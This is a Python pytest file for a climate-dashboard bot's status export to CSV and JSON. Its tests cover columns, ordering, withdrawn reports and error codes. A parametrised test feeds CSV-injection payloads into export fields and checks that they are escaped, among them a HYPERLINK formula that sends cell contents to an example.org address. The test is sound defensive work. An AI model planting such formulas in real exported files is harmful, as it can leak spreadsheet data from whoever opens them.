"""`klimabot export`: die ganze Statushistorie für Klimadashboard und Klimabericht."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.cli import main
from demo.bestand import erzeuge_bestand
from modelle.datenbank import Sitzungsfabrik, erzeuge_sitzungsfabrik
from modelle.statusexport import (
    EXPORT_SPALTEN,
    Exportmeldung,
    schreibe_export,
    statusmeldungen_fuer_export,
)
from modelle.werte import Ampel, Quelle
from tests.woche import Woche, erlebe_woche, erlebe_woche_in

# Sieben Anfangsstände aus dem ersten Import, sechs Meldungen in der Woche (eine davon
# zurückgezogen), ein Anfangsstand aus dem zweiten Import.
MELDUNGEN = 14


@pytest.fixture
def woche(datenbank_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Woche:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KLIMABOT_DATENBANK__URL", datenbank_url)
    return erlebe_woche_in(datenbank_url)


def test_csv_enthaelt_jede_meldung_auch_zurueckgezogene(
    woche: Woche, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--format", "csv", "-o", "meldungen.csv"]) == 0
    assert f"{MELDUNGEN} Statusmeldungen nach meldungen.csv geschrieben" in capsys.readouterr().out
    with (tmp_path / "meldungen.csv").open(encoding="utf-8", newline="") as datei:
        leser = csv.DictReader(datei)
        assert tuple(leser.fieldnames or ()) == EXPORT_SPALTEN
        zeilen = list(leser)
    assert len(zeilen) == MELDUNGEN
    zeitpunkte = [dt.datetime.fromisoformat(z["zeitpunkt"]) for z in zeilen]
    assert zeitpunkte == sorted(zeitpunkte)
    assert all(z.utcoffset() in (dt.timedelta(hours=1), dt.timedelta(hours=2)) for z in zeitpunkte)

    zurueckgezogen = [z for z in zeilen if z["zurueckgezogen"] == "true"]
    assert [(z["projekt"], z["ampel"], z["text"]) for z in zurueckgezogen] == [
        ("pv-offensive", "rot", "falsches Projekt")
    ]
    assert {z["zurueckgezogen"] for z in zeilen} == {"true", "false"}

    waerme = next(z for z in zeilen if z["projekt"] == "waermeplanung" and z["ampel"] == "gelb")
    assert waerme["themenfeld"] == "energie"
    assert waerme["themenfeld_name"] == "Energie"
    assert waerme["projekt_titel"] == "Kommunale Wärmeplanung"
    assert waerme["ampel_wort"] == "gelb"
    assert waerme["fortschritt"] == "40"
    assert waerme["herausforderungen"] == "Vergabe <b>dauert</b>"
    # Auch eine Matrix-ID beginnt mit „@“: in der CSV-Datei mit ' davor (siehe unten).
    assert (waerme["autor"], waerme["autor_matrix_id"]) == (
        "Dr. Anna Becker",
        "'@anna.becker:muenster.de",
    )
    assert waerme["quelle"] == "befehl"
    # Anfangsstände aus der Strukturdatei haben keine Autor*in; archivierte Projekte bleiben.
    geothermie = next(z for z in zeilen if z["projekt"] == "geothermie")
    assert (geothermie["autor"], geothermie["quelle"], geothermie["fortschritt"]) == (
        "",
        "import",
        "",
    )


def test_json_auf_die_standardausgabe(woche: Woche, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "json"]) == 0
    export = json.loads(capsys.readouterr().out)
    assert (export["format"], export["version"]) == ("klimabot-statusmeldungen", 1)
    meldungen = export["meldungen"]
    assert len(meldungen) == MELDUNGEN
    assert all(tuple(m) == EXPORT_SPALTEN for m in meldungen)
    waerme = next(m for m in meldungen if m["projekt"] == "waermeplanung" and m["ampel"] == "gelb")
    assert waerme["fortschritt"] == 40
    assert waerme["zurueckgezogen"] is False
    assert waerme["bearbeitet_am"] is None
    assert sum(m["zurueckgezogen"] for m in meldungen) == 1


def test_unschreibbare_datei_endet_mit_code_2(
    woche: Woche, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ziel = tmp_path / "gibt-es-nicht" / "meldungen.csv"
    assert main(["export", "--format", "csv", "-o", str(ziel)]) == 2
    assert "nicht schreibbar" in capsys.readouterr().err


async def test_export_liest_in_portionen(sitzungen: Sitzungsfabrik) -> None:
    await erlebe_woche(sitzungen)
    async with sitzungen() as sitzung:
        groessen = [len(p) async for p in statusmeldungen_fuer_export(sitzung, je=4)]
    assert groessen == [4, 4, 4, 2]


async def test_export_vieler_meldungen_vollstaendig_und_geordnet(engine: AsyncEngine) -> None:
    bestand = erzeuge_bestand(3, felder=3, projekte_je_feld=5, wochen=40)
    async with engine.begin() as verbindung:
        await bestand.einfuegen(verbindung)
    async with erzeuge_sitzungsfabrik(engine)() as sitzung:
        ids = [m.meldung_id async for p in statusmeldungen_fuer_export(sitzung) for m in p]
    erwartet = [m.id for m in sorted(bestand.meldungen, key=lambda m: m.reihung)]
    assert ids == erwartet


# Was in einer Tabellenkalkulation beim Öffnen zur Formel würde (CSV-Injektion).
FORMELN = (
    '=HYPERLINK("https://example.org/?"&A2;"Details")',
    "+49 251 492-0",
    "-2+3",
    "@SUMME(1;1)",
    "\t=1+1",
    "\r=1+1",
)


def _meldung(text: str, herausforderungen: str | None, titel: str) -> Exportmeldung:
    zeitpunkt = dt.datetime(2026, 11, 20, 14, tzinfo=dt.UTC)
    return Exportmeldung(
        meldung_id=1,
        zeitpunkt=zeitpunkt,
        themenfeld_slug="energie",
        themenfeld_name="Energie",
        projekt_slug="waermeplanung",
        projekt_titel=titel,
        ampel=Ampel.GELB,
        fortschritt=40,
        text=text,
        herausforderungen=herausforderungen,
        autor="=Anna",
        autor_matrix_id="@anna.becker:muenster.de",
        quelle=Quelle.BEFEHL,
        event_id="$e1",
        bearbeitet_am=None,
        zurueckgezogen=False,
        zurueckgezogen_am=None,
    )


async def _portionen(meldungen: list[Exportmeldung]) -> AsyncIterator[list[Exportmeldung]]:
    yield meldungen


@pytest.mark.parametrize("formel", FORMELN, ids=[repr(f[:2]) for f in FORMELN])
async def test_csv_zellen_mit_formelanfang_bleiben_text_json_bleibt_unveraendert(
    formel: str,
) -> None:
    meldungen = [_meldung(formel, formel, formel)]
    csv_ziel, json_ziel = io.StringIO(), io.StringIO()
    await schreibe_export(_portionen(meldungen), csv_ziel, format="csv", zeitzone=dt.UTC)
    await schreibe_export(_portionen(meldungen), json_ziel, format="json", zeitzone=dt.UTC)

    zeile = next(csv.DictReader(io.StringIO(csv_ziel.getvalue(), newline="")))
    for spalte in ("text", "herausforderungen", "projekt_titel"):
        assert zeile[spalte] == "'" + formel, spalte
    assert zeile["autor"] == "'=Anna"
    # Was harmlos beginnt, bleibt, wie es ist.
    assert (zeile["ampel"], zeile["fortschritt"], zeile["event_id"]) == ("gelb", "40", "$e1")

    meldung = json.loads(json_ziel.getvalue())["meldungen"][0]
    assert (meldung["text"], meldung["herausforderungen"]) == (formel, formel)
    assert meldung["autor_matrix_id"] == "@anna.becker:muenster.de"
